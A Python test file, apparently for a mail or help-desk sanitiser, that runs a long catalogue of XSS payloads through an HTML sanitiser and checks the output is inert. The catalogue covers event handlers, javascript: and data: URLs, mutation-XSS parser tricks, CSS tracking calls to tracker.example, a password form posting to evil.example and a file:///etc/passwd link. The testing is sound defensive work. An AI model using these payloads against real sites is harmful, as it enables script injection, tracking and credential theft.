"""Is a stranger's HTML inert once it is sanitised, whatever it tries?"""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from sportello.kernel.html import sanitise
from sportello.kernel.tests.browsing import assert_inert, tags_of

ATTACKS = {
    "B046": [
        "<script>alert(1)</script>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<img src=x onerror=alert(1)>",
        '<img src="x:x" onerror="alert(1)">',
        "<svg onload=alert(1)>",
        "<svg/onload=alert(1)><p>x",
        "<body onload=alert(1)>",
        "<details open ontoggle=alert(1)><summary>x</summary></details>",
        "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
        "<p onclick=alert(1) ONMOUSEOVER=alert(1)>x</p>",
        "<a href=https://x.example onfocus=alert(1) autofocus>x</a>",
    ],
    "B047": [
        "<a href=javascript:alert(1)>x</a>",
        "<a href='JaVa&#x0A;script:alert(1)'>x</a>",
        "<a href='&#1;javascript:alert(1)'>x</a>",
        "<a href='java\tscript:alert(1)'>x</a>",
        "<a href=' \x0b javascript:alert(1)'>x</a>",
        "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
        "<a href='DATA:text/html;base64,PHNjcmlwdD4='>x</a>",
        "<a href='\tDaTa:text/html,x'>x</a>",
        "<a href=vbscript:msgbox(1)>x</a>",
        "<a href=blob:https://x.example/1>x</a>",
        "<a href=//host.example/x>x</a>",
        "<a href=/\\host.example>x</a>",
        "<a href='cid:part1'>x</a>",
        "<a href='file:///etc/passwd'>x</a>",
        "<a href='/desk/tickets/'>x</a>",
        "<a href='#top'>x</a>",
        "<img src='data:image/svg+xml;base64,PHN2Zz4='>",
        "<img src='DATA:text/html,x'>",
        "<img src='javascript:alert(1)'>",
        "<img src='file:///x.png'>",
        "<img src='/account/sign-out/'>",
    ],
    "B048": [
        '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
        '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
        '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
        '<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>',
        "<math><mi><table><mi><mglyph><style><img src=x onerror=alert(1)>",
        '<svg><desc><template><style><a title="</style><img src=x onerror=alert(1)>">',
        "<table><caption><svg><title><xmp></title></svg></caption></xmp><img src=x onerror=alert(1)></table>",
        "<select><template><img src=x onerror=alert(1)></template></select>",
        "<b><p><svg><foreignobject><p><style><img src=x onerror=alert(1)></style>",
    ],
    "B049": [
        "<svg><a><set attributeName=href to=javascript:alert(1)></set><text>x</text></a></svg>",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s></animate></svg>",
        "<svg><use href='data:image/svg+xml;base64,PHN2Zz4='></use></svg>",
        "<svg><filter><feImage href='https://tracker.example/x.png'></feImage></filter></svg>",
        "<svg><image href='https://tracker.example/x.png'/></svg>",
    ],
    "B050": [
        "<style>@import 'https://tracker.example/x.css';</style>",
        "<p style='background:url(https://tracker.example/x.png)'>x</p>",
        "<p style='background-color:red;background-image:url(//tracker.example)'>x</p>",
        "<p style='border:1px solid \\75rl(https://tracker.example)'>x</p>",
        "<p style='color:u/**/rl(x);list-style-type:url(x)'>x</p>",
        "<p style='font-family:src(x);width:image-set(x);height:var(--x)'>x</p>",
        "<style>@font-face{font-family:x;src:url(https://tracker.example/x.woff)}</style>",
        "<link rel=stylesheet href=https://tracker.example/x.css>",
        "<link rel=dns-prefetch href=//tracker.example>",
        "<link rel=preconnect href=https://tracker.example>",
        "<body background=https://tracker.example/x.png>x</body>",
        "<table background=https://tracker.example/x.png><td background=//tracker.example>x</table>",
        "<img srcset='https://tracker.example/x.png 2x' src=https://tracker.example/x.png>",
        "<picture><source srcset=https://tracker.example/x.png><img src=//tracker.example/x.png></picture>",
        "<video poster=https://tracker.example/x.png src=https://tracker.example/x.mp4></video>",
        "<audio src=https://tracker.example/x.mp3></audio>",
        "<object data=https://tracker.example/x></object>",
        "<embed src=https://tracker.example/x>",
        "<input type=image src=https://tracker.example/x.png>",
        "<blockquote cite=https://tracker.example/>x</blockquote>",
        "<iframe src=https://tracker.example/></iframe>",
    ],
    "B052": [
        "<div style='position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999'>x</div>",
        "<div style='width:1000000px;height:1e9px'>x</div>",
        "<img width=1000000 height=1000000 src=cid:a>",
        "<table border=99999 cellpadding=99999><td colspan=100000 rowspan=65535>x</table>",
        "<blink>x</blink><marquee>x</marquee>",
        "<p style='animation:x 1s infinite;transition:all 1s'>x</p>",
        "<p style='width:expression(alert(1))'>x</p>",
        "<p style='behavior:url(x.htc);-moz-binding:url(x.xml)'>x</p>",
    ],
    "B053": [
        "<base href=https://evil.example/><a href=x>x</a>",
        "<meta http-equiv=refresh content='0;url=https://evil.example'>",
        "<form action=https://evil.example><input type=password name=p><button>Go</button></form>",
        "<a href=https://x.example target=_top>x</a>",
        "<a href=https://x.example target=_self rel=opener>x</a>",
        "<input autofocus onfocus=alert(1)><textarea autofocus>x</textarea><select autofocus></select>",
        "<button formaction=javascript:alert(1)>x</button><isindex action=x>",
    ],
    "B054": [
        "<a id=csrf href=https://x.example>x</a><img name=cookie src=cid:x>",
        "<form name=body><input name=parentNode></form><p class=toast id=main slot=x is=x-y part=z>x</p>",
    ],
    "B056": [
        "<!-- <script>alert(1)</script> --><p>x</p>",
        "<!--><img src=x onerror=alert(1)>-->",
        "<!--[if IE]><script>alert(1)</script><![endif]-->x",
        "<![CDATA[<img src=x onerror=alert(1)>]]>",
        "<?xml version='1.0'?><p>x</p><?php echo 1 ?>",
        "<plaintext><script>alert(1)</script>",
        "<xmp><img src=x onerror=alert(1)></xmp>",
        "<textarea><img src=x onerror=alert(1)></textarea>",
        "<title><img src=x onerror=alert(1)></title>",
        "<p <script>alert(1)</script>",
        "<img src='x' onerror='alert(1)'",
        "<p title='<!--'><img src=x onerror=alert(1)><p title='-->'>",
        "<<script>alert(1)//<</script>",
        "<noembed><img src=x onerror=alert(1)></noembed><noframes><img src=x onerror=alert(1)></noframes>",
        "</p></div></body></html><script>alert(1)</script>",
        "<p\x00 onclick=alert(1)>x</p\x00>",
    ],
}


@pytest.mark.parametrize(("id_", "html"), [(key, html) for key, cases in ATTACKS.items() for html in cases])
def test_a_mail_runs_nothing_and_asks_for_nothing(id_: str, html: str) -> None:
    safe = sanitise(f"<p>before</p>{html}")
    assert "before" in safe.html
    assert_inert(safe.html)
    assert "alert" not in "".join(f"{attributes}" for _, attributes in tags_of(safe.html))
    assert sanitise(safe.html).html.count("<p>before</p>") == 1


@given(st.lists(st.sampled_from([case for cases in ATTACKS.values() for case in cases]), max_size=6), st.text())
def test_attacks_in_any_order_and_company_stay_inert(cases: list[str], text: str) -> None:
    assert_inert(sanitise(text.join(cases)).html)


PIECES = [
    *[
        "<p",
        "<svg",
        "<math",
        "<style",
        "</style",
        "<!--",
        "-->",
        "<a href=",
        "<img src=",
        "javascript:",
        ">",
        "/>",
        "'",
    ],
    *['"', " ", "\0", "onerror=alert(1)", "<table>", "<td>", "<mtext>", "<noscript>", "</noscript>", "&lt;", "<", "x"],
    *[
        "title=",
        "<xmp>",
        "<title>",
        "</title>",
        "<select>",
        "<template>",
        "style=",
        "url(",
        "<![CDATA[",
        "]]>",
        "cid:x",
    ],
]


@given(st.lists(st.sampled_from(PIECES), max_size=30).map("".join))
def test_no_jumble_of_markup_becomes_alive(html: str) -> None:
    assert_inert(sanitise(html).html)
